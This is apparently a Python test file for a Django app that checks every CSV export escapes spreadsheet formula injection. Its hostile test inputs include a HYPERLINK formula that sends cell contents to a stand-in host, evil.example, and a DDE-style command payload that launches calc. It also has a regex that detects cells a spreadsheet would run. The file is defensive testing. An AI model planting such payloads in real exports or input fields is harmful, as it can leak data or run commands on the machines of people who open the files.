"""Every CSV export escapes cells a spreadsheet would run as formulas: the audit trail (admin
action and `manage.py export_audit`) and each of the Quality page's tables, with hostile text
in every place a person can put it (questions, collection, evaluation set and file names,
failure reasons, searches). One writer does it (core.spreadsheets), and no other module
writes CSV."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from accounts.models import AuditEvent
from chat.models import Conversation, Feedback, Message
from chat.views import QUALITY_TABLES
from core.config import BASE_DIR
from core.spreadsheets import cell_escape
from retrieval.models import EvaluationRun, EvaluationSet
from tests.api import api_client
from tests.documents.factories import CollectionFactory, DocumentFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?x="&A3,"open")'
HOSTILE_QUESTION = "=1+2 where is the bicycle parking?"
# A cell a spreadsheet runs: a formula sign, maybe after white space or control characters, in
# its plain or full-width form.
RUNS = re.compile(r"^[\s\x00-\x1f]*[=+\-@\uff1d\uff0b\uff0d\uff20]")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =1+1", "'  =1+1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("annual leave", "annual leave"),
        ("a=b", "a=b"),
        (-3, -3),
        (0.5, 0.5),
        (None, None),
    ],
)
def test_a_cell_that_would_run_is_written_as_text(value, written):
    assert cell_escape(value) == written


@pytest.fixture
def hostile_world(people):
    """Hostile text wherever a person can type it, all of it reaching some export."""
    boss = people["superuser"]
    boss.is_staff = True
    boss.save()
    collection = CollectionFactory(name="+cmd|' /C calc'!A0", owner=boss)
    document = DocumentFactory(
        collection=collection, status="failed", error="@evil failure", source="-x.pdf"
    )
    conversation = Conversation.objects.create(owner=boss, title=HOSTILE)
    question = Message.objects.create(
        conversation=conversation, role="user", text=HOSTILE_QUESTION, query=HOSTILE_QUESTION,
        reach=[collection.pk],
    )  # fmt: skip
    for mode, documents in (("not_covered", []), ("extractive", [document.pk])):
        answer = Message.objects.create(
            conversation=conversation, role="assistant", question=question, text="-",
            mode=mode, documents=documents,
        )  # fmt: skip
        Feedback.objects.create(message=answer, user=boss, helpful=False, comment=HOSTILE)
    evaluation_set = EvaluationSet.objects.create(
        name="@evaluation", collection=collection, source="beir", queries={}, qrels={}
    )
    EvaluationRun.objects.create(
        evaluation_set=evaluation_set, mode="hybrid", ndcg_at_10=0.5, queries=1,
        recall_at_100=1, mrr_at_10=1, latency_p50_ms=1, latency_p95_ms=1,
        embedding_model="=model", embedding_runtime="-runtime", code_version="+v1",
        trigger="command",
    )  # fmt: skip
    api_client(people["member"]).post("/api/v1/search/", {"query": HOSTILE}, format="json")
    return people


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _exports(client, boss, tmp_path) -> dict[str, str]:
    client.force_login(boss)
    exported = {
        f"quality {name}": client.get(reverse("admin-quality-csv", args=[name])).content.decode()
        for name in QUALITY_TABLES
    }
    exported["audit, admin action"] = client.post(
        reverse("admin:accounts_auditevent_changelist"),
        {
            "action": "export_csv",
            "_selected_action": list(AuditEvent.objects.values_list("pk", flat=True)),
        },
    ).content.decode()
    out = tmp_path / "audit.csv"
    call_command("export_audit", "--format", "csv", "--output", str(out))
    exported["audit, command"] = out.read_text()
    return exported


def test_every_export_writes_hostile_text_as_text(client, hostile_world, tmp_path):
    """GIVEN hostile text in a question, a comment, collection, set, model and file names, a
    failure reason and a search WHEN every export is downloaded THEN each of those texts is
    in some export, and no cell of any export would run."""
    exported = _exports(client, hostile_world["superuser"], tmp_path)

    every_cell = [cell for text in exported.values() for cell in _cells(text)]
    for typed in (HOSTILE, HOSTILE_QUESTION, "+cmd|' /C calc'!A0", "@evaluation", "=model",
                  "@evil failure"):  # fmt: skip
        assert "'" + typed in every_cell, typed  # exported, as text
    for name, text in exported.items():
        for cell in _cells(text):
            assert not RUNS.match(cell), (name, cell)
    # Each export is a real table (the walk reached them all).
    assert all(len(list(csv.reader(io.StringIO(text)))) >= 2 for text in exported.values())
    assert timezone.now() - timedelta(days=1) < AuditEvent.objects.latest("at").at


def test_no_module_writes_csv_but_the_one_writer():
    """A new export cannot forget the escaping: csv.writer appears in core.spreadsheets only."""
    writers = [
        path.relative_to(BASE_DIR)
        for app in ("accounts", "chat", "core", "documents", "retrieval", "prodrag")
        for path in (BASE_DIR / app).rglob("*.py")
        if "csv.writer(" in path.read_text() or "DictWriter(" in path.read_text()
    ]
    # The sample corpus writes a spreadsheet document to be ingested, not an export.
    assert sorted(map(str, writers)) == ["core/spreadsheets.py", "documents/samples.py"]
